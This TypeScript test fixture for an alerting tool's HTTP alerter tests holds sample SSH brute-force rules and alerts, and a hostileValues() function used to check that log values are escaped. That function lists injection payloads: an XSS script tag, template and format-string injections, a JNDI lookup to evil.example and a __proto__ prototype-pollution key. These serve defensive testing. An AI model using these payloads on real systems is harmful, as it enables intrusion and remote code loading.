/** Rules, alerts and hostile values shared by the HTTP alerter tests (post, post2, pagerduty, hivealerter). */
import type { AlertPayload } from '../../../alerters/types.ts';
import type { AlerterRef, RuleDefinition } from '../../../src/rules/types.ts';

export const T0 = Date.parse('2024-05-01T12:00:00Z');
export const ALERT_ID = 'Qm9ndXNJZEZvclRlc3RzT25seTEyMzQ1';

export function httpRule(type: string, options: Record<string, unknown>, overrides: Partial<RuleDefinition> = {}): RuleDefinition {
  return {
    name: 'SSH brute force',
    file: 'ssh.yaml',
    type: 'frequency',
    index: 'logs-*',
    useStrftimeIndex: false,
    filter: [],
    timestampField: '@timestamp',
    timestampType: 'iso',
    queryKey: undefined,
    runEveryMs: 60_000,
    bufferTimeMs: 900_000,
    queryDelayMs: 0,
    realertMs: 60_000,
    exponentialRealertMs: undefined,
    maxQuerySize: 10000,
    isEnabled: true,
    alert: [{ type, options: {} }],
    options,
    ...overrides,
  };
}

export function refOf(rule: RuleDefinition): AlerterRef {
  const ref = rule.alert[0];
  if (!ref) throw new Error('rule without alerter');
  return ref;
}

export function alertOf(match: Record<string, unknown>, extra: Partial<AlertPayload> = {}): AlertPayload {
  const subject = extra.subject ?? 'SSH brute force';
  const text = extra.text ?? 'SSH brute force\n\nuser: bob\n';
  return {
    alertId: ALERT_ID,
    ruleName: 'SSH brute force',
    ruleFile: 'ssh.yaml',
    queryKey: undefined,
    matchTimeMs: T0,
    match,
    severity: undefined,
    subject,
    text,
    render: () => ({ subject, text }),
    ...extra,
  };
}

export const MATCH: Record<string, unknown> = {
  '@timestamp': '2024-05-01T12:00:00Z',
  user: { name: 'bob' },
  'source.ip': '10.0.0.1',
  source: { port: 22 },
  num_hits: 7,
  ok: true,
  tags: ['a', 'b'],
  nothing: null,
};

/** Values a log line can carry that must arrive as the same data, never as markup, template or JSON. */
export function hostileValues(): Record<string, unknown> {
  return {
    quotes: `he said "hi" and 'bye'`,
    backslashes: 'C:\\Windows\\System32\\ \\" \\\\ \\u0041',
    script: '</script><script>alert(1)</script><!--',
    jinja: '{{7*7}} {{ _data }} {% for x in y %}{% endfor %} {# c #}',
    format: '{0} {} {match[user]} {rule[hive_connection]} %s %(user)s',
    jndi: '${jndi:ldap://evil.example/a} ${env:HOME}',
    control: 'a\u0000b\u0001c\u001f\u007f\u0085d',
    lines: 'one\r\ntwo\u2028three\u2029',
    unicode: 'é 漢字 😀 \u202Eevil',
    json: '{"injected": true}", "x": "',
    long: 'L'.repeat(100_000),
    nested: { 'a"b': ['\\', '"', '}}'] },
    // A key that, assigned naively, would replace an object's prototype instead of being data.
    ...(JSON.parse('{"__proto__": {"polluted": "yes"}}') as Record<string, unknown>),
  };
}
